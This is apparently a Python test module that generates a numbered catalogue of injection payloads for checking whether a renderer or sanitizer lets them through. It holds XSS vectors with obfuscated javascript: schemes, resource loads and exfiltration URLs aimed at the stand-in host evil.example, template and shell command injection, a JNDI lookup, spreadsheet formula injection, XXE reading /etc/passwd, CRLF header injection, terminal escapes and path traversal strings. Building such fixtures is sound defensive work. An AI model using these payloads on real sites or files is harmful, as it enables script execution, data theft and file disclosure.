"""Payloads: what a stranger may write into a field or a page to run, lead out or mislead.

Each calls `stolen(N)` or asks for evil.example, with a number of its own: what ran, or was asked
for, can be named. A list of parts makes them, so that each trick meets each place.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

HOST = "evil.example"

EVENTS = [
    "load",
    "error",
    "click",
    "mouseover",
    "focus",
    "focusin",
    "blur",
    "input",
    "change",
    "submit",
    "toggle",
    "wheel",
    "scroll",
    "paste",
    "copy",
    "drag",
    "dragstart",
    "drop",
    "keydown",
    "pointerenter",
    "animationstart",
    "transitionend",
    "begin",
    "end",
    "repeat",
    "beforetoggle",
    "contextmenu",
    "pageshow",
    "hashchange",
    "message",
    "resize",
]
TAGS = [
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "input",
    "details",
    "iframe",
    "object",
    "embed",
    "marquee",
    "select",
    "a",
]
# How the word “javascript:” is hidden from who looks for it and not from a browser.
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
    "javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;", "javascript&#0000058",
    "&#1;javascript:", "java&Tab;script:", "java&NewLine;script:", "javascript://%0a",
    "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:",
    "view-source:javascript:", "feed:javascript:", "jar:javascript:", "livescript:", "mocha:",
)  # fmt: skip
ATTRIBUTES = (
    '<a href="{}stolen({})">x</a>',
    "<a href={}stolen({})>x</a>",
    '<svg><a xlink:href="{}stolen({})"><text y="9">x</text></a></svg>',
    '<form action="{}stolen({})"><button>x</button></form>',
    '<button formaction="{}stolen({})">x</button>',
    '<iframe src="{}stolen({})"></iframe>',
    '<math href="{}stolen({})">x</math>',
    "[x]({}stolen({}))",
    "<{}stolen({})>",
    "![x]({}stolen({}))",
    "[x]: {}stolen({})",
)
QUOTES = (
    '"', "'", "&quot;", "&#39;", "`", '\\"', "\\'", "\u201d", '" ', "'/", '">', "'>", "-->", "]]>",
    "*/", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>",
)  # fmt: skip
AFTER = (
    "onmouseover=stolen({})", "<img src=x onerror=stolen({})>", "<script>stolen({})</script>",
    "autofocus onfocus=stolen({}) x=", "<svg/onload=stolen({})>", ";stolen({});//",
)  # fmt: skip
SINGLE = (
    "<script>stolen({})</script>", "<ScRiPt>stolen({})</sCrIpT>", "<script/x>stolen({})</script>",
    "<script\n>stolen({})</script>", "<<script>stolen({})//<</script>",
    "<scr<script>ipt>stolen({})</scr</script>ipt>", "&lt;script&gt;stolen({})&lt;/script&gt;",
    "&#60;script&#62;stolen({})&#60;/script&#62;", "\\u003cscript>stolen({})\\u003c/script>",
    "%3Cscript%3Estolen({})%3C/script%3E", "\uff1cscript\uff1estolen({})\uff1c/script\uff1e",
    "<script src=//evil.example/{}></script>", "<link rel=stylesheet href=//evil.example/{}>",
    "<link rel=prefetch href=//evil.example/{}>", "<base href=//evil.example/{}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<meta http-equiv=refresh content='0;javascript:stolen({})'>",
    "<object data=//evil.example/{}></object>", "<embed src=//evil.example/{}>",
    "<iframe srcdoc='<script>parent.stolen({})</script>'></iframe>",
    "<img src=//evil.example/{}>", "<img srcset='//evil.example/{} 1x'>",
    "<video poster=//evil.example/{}></video>", "<audio src=//evil.example/{}></audio>",
    "<input type=image src=//evil.example/{}>", "<body background=//evil.example/{}>",
    "<table background=//evil.example/{}>", "<p style='background:url(//evil.example/{})'>x</p>",
    "<style>@import '//evil.example/{}';</style>", "<style>*{{background:url(//evil.example/{})}}",
    "<svg><script>stolen({})</script></svg>", "<svg><script href=data:,stolen({}) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=stolen({})>#x'/></svg>",
    "<svg><animate onbegin=stolen({}) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=stolen({})>",
    "<svg><foreignObject><img src=x onerror=stolen({})></foreignObject></svg>",
    "<svg><image href=//evil.example/{}></svg>", "<svg><style><img src=x onerror=stolen({})>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x "
    "onerror=stolen({})>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=stolen({})></annotation-xml>",
    "<noscript><p title='</noscript><img src=x onerror=stolen({})>'>",
    "<template><img src=x onerror=stolen({})></template>", "<xmp><img src=x onerror=stolen({})>",
    "<plaintext><img src=x onerror=stolen({})>", "<!--><img src=x onerror=stolen({})>-->",
    "<!--!><img src=x onerror=stolen({})>", "<?xml version='1.0'?><x onload=stolen({})>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;stolen({})",
    "<![CDATA[<img src=x onerror=stolen({})>]]>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'"
    ">stolen({})</x:script>", "<a href=x id=location name=location>stolen({})</a>",
    "<form id=document><input name=cookie value=stolen({})></form>",
    "<dialog open onclose=stolen({})>", "<button popovertarget=x onclick=stolen({})>x</button>",
    "<a ping=//evil.example/{} href=x>x</a>", "<a href=//evil.example/{} target=_top>x</a>",
    # templates
    "{{{{ stolen({}) }}}}", "{{% import 'os' as o %}}{{{{ o.system('stolen {}') }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}stolen({})", "${{stolen({})}}",
    "#{{stolen({})}}", "<%= stolen({}) %>", "{{{{constructor.constructor('stolen({})')()}}}}",
    "[[stolen({})]]", "{{# stolen({}) #}}", "{{{{{{stolen({})}}}}}}", "%{{stolen({})}}",
    "{{%raw%}}stolen({}){{%endraw%}}", "{{{{ config.extra }}}}stolen({})",
    "--8<-- \"/etc/passwd\" stolen({})", "::: generator stolen({})", "!!python/object:os.system {}",
    "$(touch stolen{})", "`touch stolen{}`", "; touch stolen{}", "| touch stolen{}",
    "${{{{ github.token }}}}stolen({})", "${{jndi:ldap://evil.example/{}}}",
    # Markdown
    "x {{: onclick=stolen({}) }}", "x {{: style='background:url(//evil.example/{})' }}",
    "[x](//evil.example/{} \"a\" onclick=stolen())", "[x](<javascript:stolen({})>)",
    "[x](java\\script:stolen({}))", "[x](&#x6A;avascript:stolen({}))",
    "![x](x \"onerror=stolen({})\"){{: onerror=stolen() }}", "[^1]: <img src=x onerror=stolen({})>",
    "*[x]: \"><img src=x onerror=stolen({})>", "\\<img src=x onerror=stolen({})\\>",
    "# x {{#\"><img src=x onerror=stolen({})>}}", "| <img src=x onerror=stolen({})> |",
    "```\"><img src=x onerror=stolen({})>", "~~~ {{.x onclick=stolen({}) }}",
    "<div markdown=1><img src=x onerror=stolen({})></div>", "&lt;img src=x onerror=stolen({})&gt;",
    "&amp;lt;img src=x onerror=stolen({})&amp;gt;", "\u200b<img src=x onerror=stolen({})>",
    # sheets
    "=HYPERLINK(\"http://evil.example/{}\")", "=cmd|' /C calc'!A{}", "@SUM(1+1)*cmd|'!A{}",
    "+1+cmd|'!A{}", "-1+cmd|'!A{}", "\t=1+{}", "\r=1+{}", "\n=1+{}", "\uff1d1+{}", "'=1+{}",
    '"=1+{}', ";=1+{}", ",=1+{}", "x\",=1+{}", "x\"\r\n=1+{}", " =1+{}", "\u00a0=1+{}",
    "=WEBSERVICE(\"http://evil.example/{}\")", "=IMPORTXML(\"http://evil.example/{}\";\"//a\")",
    "%00=1+{}", "\ufeff=1+{}", "{{=1+{}}}",
    # scripts that hold data, style sheets, feeds, headers
    "\u2028stolen({})\u2029", "</script><script>stolen({})</script>", "<!--<script>stolen({})",
    "\\\"}};stolen({});//", "\\u2028;stolen({})", "*/}};stolen({})/*", "\\3c img stolen({})",
    "}} body{{background:url(//evil.example/{})}}", "]]><x>stolen({})</x>", "&stolen{};", "&x{}",
    "x\r\nSet-Cookie: stolen={}", "x\r\n\r\n<script>stolen({})</script>", "x\nLocation: //evil/{}",
    "/* 301\n/* //evil.example/{} 301", "*/stolen({})/*", "//# sourceMappingURL=//evil.example/{}",
    "__proto__ stolen{}", "constructor stolen{}", "{{\"__proto__\": {{\"x\": {}}}}}",
    # pull requests, workflows, terminals
    "::error file=x,line=1::stolen {}", "%0A::set-output name=x::stolen {}", "##[error]stolen {}",
    "::stop-commands::stolen {}", "@octocat stolen {}", "#1 stolen {}", "GH-1 stolen {}",
    "https://evil.example/{}", "www.evil.example/{}", "<https://evil.example/{}>",
    "x@evil.example {}", "<img src=https://evil.example/{} width=1>", "![](https://evil.example/{})",
    "\n\n# stolen {}\n\n", "\n```suggestion\nstolen {}\n```", "| a | b |\n|--|--|\n| stolen {} | x |",
    "<details><summary>stolen {}</summary>", "-->stolen {}<!--", "$$\\href{{javascript:stolen({})}}x$$",
    "```mermaid\nclick a call stolen({})\n```", "[x](/../../settings?stolen={})",
    "\x1b[31mstolen {}\x1b[0m", "\x1b]8;;http://evil.example/{}\x07x\x1b]8;;\x07", "\x9b31mstolen {}",
    # direction, invisible, control, look-alikes
    "\u202egnorw\u202cstolen {}", "\u2066x\u2069 stolen {}", "\u200estolen {}", "\u061cstolen {}",
    "\u00adstolen {}", "\u2060stolen {}", "\ufe0fstolen {}", "\U000e0001stolen {}", "\u180estolen {}",
    "\0stolen {}", "\x07stolen {}", "\x7fstolen {}", "\x85stolen {}", "\ufffestolen {}",
    "a\u0300\u0301\u0302\u0303\u0304\u0305 stolen {}", "ﷺ" + "\U0001f468\u200d\U0001f469 stolen {}",
    # places
    "../../../etc/passwd{}", "..\\..\\windows\\win.ini{}", "/etc/passwd{}", "C:\\x{}", "\\\\evil\\{}",
    "%2e%2e%2f{}", "..%c0%af{}", "....//{}", "./{}", "~root/{}", "file:///etc/passwd{}", "CON{}",
    "nul.{}", "aux.html{}", "x{}\0.html", "x{}/../../y", ".git/config{}", "index.html{}", "-rf {}",
    "x" * 300 + "{}", "?{}=1", "#{}", "a/b{}", ".htaccess{}", "_headers{}",
)  # fmt: skip


def _made() -> Iterator[str]:
    yield from SINGLE
    for place, scheme in product(ATTRIBUTES, SCHEMES):
        yield place.format(scheme.replace("{", "{{").replace("}", "}}"), "{}")
    for quote, after in product(QUOTES, AFTER):
        yield f"x{quote} {after}"
    for number, event in enumerate(EVENTS):
        yield f"<{TAGS[number % len(TAGS)]} src=x on{event}=stolen({{}})>"
        yield f'" on{event}="stolen({{}})'
        yield f"<x{number} tabindex=1 contenteditable on{event.upper()}\n=\nstolen({{}})>"


PAYLOADS: tuple[str, ...] = tuple(
    text.format(number) for number, text in enumerate(dict.fromkeys(_made()), start=1)
)
